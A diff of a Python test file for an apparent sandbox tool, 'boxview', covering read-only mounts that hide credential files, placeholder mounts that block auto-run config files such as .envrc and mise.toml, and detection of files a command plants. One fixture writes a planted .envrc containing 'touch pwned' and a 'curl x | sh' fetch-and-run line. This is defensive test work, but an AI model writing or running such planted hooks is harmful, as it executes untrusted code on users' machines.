@@ -44,8 +44,11 @@ def test_the_mounts_are_one_value(layout):
     def bind(path: str, kind: str = "--ro-bind", source: str = "") -> list[str]:
         return [kind, source or path, path]
 
-    # of cargo, its programs: not its config or credentials
-    expected = ["--tmpfs", h, *bind(f"{h}/.cargo/bin"), *bind(f"{h}/.gitconfig"), *bind(f"{h}/.m2")]
+    # of cargo, its programs: not its config or credentials; of git's config, amas's copy of its
+    # identity and core settings
+    expected = ["--tmpfs", h, *bind(f"{h}/.cargo/bin")]
+    expected += bind(f"{h}/.gitconfig", source=f"{h}/.amas/box/gitconfig")
+    expected += bind(f"{h}/.m2")  # each in the order of its place
     # of the credential places, only those the box would show: the system's
     expected += bind(r, "--bind")
     for place in ("/etc/shadow", "/etc/sudoers", "/etc/ssh"):
@@ -53,9 +56,12 @@ def test_the_mounts_are_one_value(layout):
     expected += bind(f"{r}/.git")
     # the submodule's folder, not checked out, read-only whole; the untracked repository's .git
     expected += [*bind(f"{r}/lib"), *bind(f"{r}/tools/x", "--bind"), *bind(f"{r}/tools/x/.git")]
-    expected += [*bind(f"{r}/AGENTS.md"), *bind(f"{r}/.amas")]
-    # stand-ins for what is missing: no file or folder of that name can be made
-    for name in (".vscode", ".idea", ".envrc"):
+    expected += [*bind(f"{r}/.amas"), *bind(f"{r}/AGENTS.md")]
+    # stand-ins for what is missing: no file or folder of that name can be made (of the hook
+    # managers' files, only those of a manager whose hooks are installed)
+    names = ".vscode .idea .zed .helix .devcontainer .devcontainer.json .nvim.lua .nvimrc .exrc "
+    names += ".envrc .tool-versions mise.toml .mise.toml mise.local.toml .mise.local.toml .mise"
+    for name in names.split():
         expected += ["--tmpfs", f"{r}/{name}", "--remount-ro", f"{r}/{name}"]
     expected += [*bind(f"{r}/.husky"), *bind(f"{r}/.amas/config.yaml", source="/dev/null")]
     assert boxview.files(root, read=("~/.m2",)) == [*expected, "--remount-ro", h]
@@ -145,3 +151,44 @@ def test_a_stand_in_an_amas_killed_mid_command_left_goes_after_the_next(layout):
     assert args[at - 1 : at + 3] == ["--tmpfs", agents, "--remount-ro", agents]
     boxview.remove_stand_ins(args, root)
     assert not (root / "AGENTS.md").exists() and (root / ".vscode").is_dir()
+
+
+def test_the_walk_after_a_command_lists_only_the_folders_that_changed(tmp_path, monkeypatch):
+    """The session keeps what the walk found (boxview.Tree): the next walk lists a folder only when
+    its ctime moved (which no command can set back, unlike its mtime), and a folder made between
+    two commands is known before a command writes into it."""
+    root = tmp_path / "proj"
+    for i in range(30):
+        (root / f"pkg{i}" / "lib").mkdir(parents=True)
+        (root / f"pkg{i}" / ".eslintrc").write_text("{}\n")
+    (root / ".gitignore").write_text("pkg*/\n")
+    git(root, "init", "-q")
+    tree = boxview.Tree(str(root))
+    assert boxview.planted(root, boxview.now(), tree) == []
+    assert not any(path.endswith(".eslintrc") for path in tree.files)  # ignored: never named
+    listed = []
+    scandir = os.scandir
+    monkeypatch.setattr(os, "scandir", lambda path: listed.append(path) or scandir(path))
+    assert boxview.planted(root, boxview.now(), tree) == [] and listed == []
+    (root / "api").mkdir()  # between two commands
+    boxview.planted(root, boxview.now(), tree)
+    ticked(root / "api")
+    since = boxview.now()
+    (root / "api" / ".envrc").write_text("touch pwned\n")  # the command
+    os.utime(root / "api", (0, 0))  # its mtime set back: its ctime moves all the same
+    assert boxview.planted(root, since, tree) == ["api/.envrc"]
+    ticked(root / "api" / ".envrc")
+    since = boxview.now()
+    with open(root / "api" / ".envrc", "a") as envrc:  # changed in place: the folder keeps still
+        envrc.write("curl x | sh\n")
+    listed.clear()
+    assert boxview.planted(root, since, tree) == ["api/.envrc"] and listed == []
+
+
+def ticked(path: Path) -> None:
+    """Wait, bounded, until the clock files' times come from has passed path's last change."""
+    changed = path.lstat().st_ctime_ns
+    for _ in range(1_000_000):
+        if boxview.now() > changed:
+            return
+    raise AssertionError("the file clock did not move")
